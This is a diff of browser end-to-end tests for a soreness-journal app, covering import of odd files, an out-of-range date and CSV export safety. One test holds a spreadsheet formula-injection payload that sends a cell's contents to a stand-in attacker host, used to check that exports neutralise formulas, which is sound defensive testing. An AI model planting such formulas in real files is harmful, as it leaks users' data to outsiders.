@@ -266,7 +266,7 @@ test("(d) export, then import the file: nothing duplicated; wipe and import brin
   fs.writeFileSync(file, JSON.stringify({ ...exported, notes: [{ ...exported.notes[0], id: "new", feel: 9 }] }));
   await tab(page, "Settings").tap();
   await page.getByLabel("Import a journal file").setInputFiles(file);
-  await page.getByText(/import failed, nothing was changed: notes\[0\]: feel must be 1–5 \(got 9\)/).waitFor();
+  await page.getByText(/Import failed, nothing was changed: notes\[0\]: feel must be 1–5 \(got 9\)/).waitFor();
   await page.getByText("2 notes").waitFor();
   fs.rmSync(file);
   await context.close();
@@ -288,6 +288,61 @@ test("(e) bad input in the log form shows its message and saves nothing", async 
   await shot(page, "log-form-errors");
   await tab(page, "Journal").tap();
   await page.getByText("No notes yet").waitFor();
+  await context.close();
+});
+
+test("(g) files from other tools and from an attacker: a BOM JSON under any name imports, a date in year 10000 is refused in plain words, CSV cells cannot run formulas", async () => {
+  const { page, context, errors } = await newPage({ clock: false });
+  await tab(page, "Settings").tap();
+  await page.getByText("0 notes").waitFor();
+  const dir = fs.mkdtempSync(path.join(os.tmpdir(), "unknot-hostile-"));
+  const formula = '=HYPERLINK("http://attacker.example/?"&A1,"Click")';
+  const note = { id: "from-a-spreadsheet", created_at: "2024-05-01T08:00:00+02:00", updated_at: "2024-05-01T08:00:00+02:00", feel: 4, text: formula, soreness: { calves: 3 } };
+  // Saved by a Windows tool: byte-order mark, CRLF, and a name that says nothing about the format.
+  const bom = path.join(dir, "backup.txt");
+  const json = JSON.stringify({ format: "unknot-journal", version: 1, exported_at: "2024-06-01T12:00:00Z", notes: [note] }, null, 2);
+  fs.writeFileSync(bom, "\uFEFF" + json.replace(/\n/g, "\r\n"));
+  await page.getByLabel("Import a journal file").setInputFiles(bom);
+  await page.getByText("Imported backup.txt: 1 added, 0 updated, 0 skipped.").waitFor();
+  await page.getByText("1 notes").waitFor();
+
+  // The file from issue #12: it used to report "1 added" and then break listing, export and delete.
+  const far = path.join(dir, "far.json");
+  fs.writeFileSync(far, JSON.stringify({ format: "unknot-journal", version: 1, exported_at: "2024-06-01T12:00:00Z",
+    notes: [{ id: "x", created_at: "+10000-01-01T00:00:00Z", updated_at: "+10000-01-01T00:00:00Z", feel: 3 }] }));
+  await page.getByLabel("Import a journal file").setInputFiles(far);
+  await page.getByText(/Import failed, nothing was changed: .*the year 10000 is outside the years 1970 to 2200/).waitFor();
+  await page.getByText("1 notes").waitFor();
+
+  // The formula goes out neutralised for spreadsheets, and comes back exactly.
+  const [download] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: "Export CSV" }).tap()]);
+  const csvFile = path.join(dir, "export.csv");
+  await download.saveAs(csvFile);
+  const csv = fs.readFileSync(csvFile, "utf8");
+  const cells = csv.split(/[,\r\n]/).map((c) => c.replace(/^"/, ""));
+  assert.ok(cells.every((c) => !/^[=+\-@\t\r]/.test(c)), `a spreadsheet would run a cell of:\n${csv}`);
+  await page.getByRole("button", { name: "Delete all journal data" }).tap();
+  await page.getByRole("button", { name: "Delete everything" }).tap();
+  await page.getByText("0 notes").waitFor();
+  await page.getByLabel("Import a journal file").setInputFiles(csvFile);
+  await page.getByText("1 added, 0 updated, 0 skipped").waitFor();
+  await tab(page, "Journal").tap();
+  await page.locator(".note-card").getByText(formula).waitFor();
+  await shot(page, "journal-after-hostile-import");
+  fs.rmSync(dir, { recursive: true, force: true });
+  assert.deepEqual(errors, []);
+  await context.close();
+});
+
+test("(h) opening a session's address on a first start shows the safety notes before anything else", async () => {
+  const context = await browser.newContext(PHONE);
+  await context.addInitScript(RECORDER);
+  const page = await context.newPage();
+  await page.goto(server.url + "/session/calves-roller");
+  await page.getByRole("dialog", { name: "Before you start" }).waitFor();
+  assert.equal(await page.getByRole("timer").count(), 0, "the session must not run behind the safety notes");
+  await page.getByRole("button", { name: "I understand" }).tap();
+  await page.getByRole("timer").waitFor();
   await context.close();
 });
 
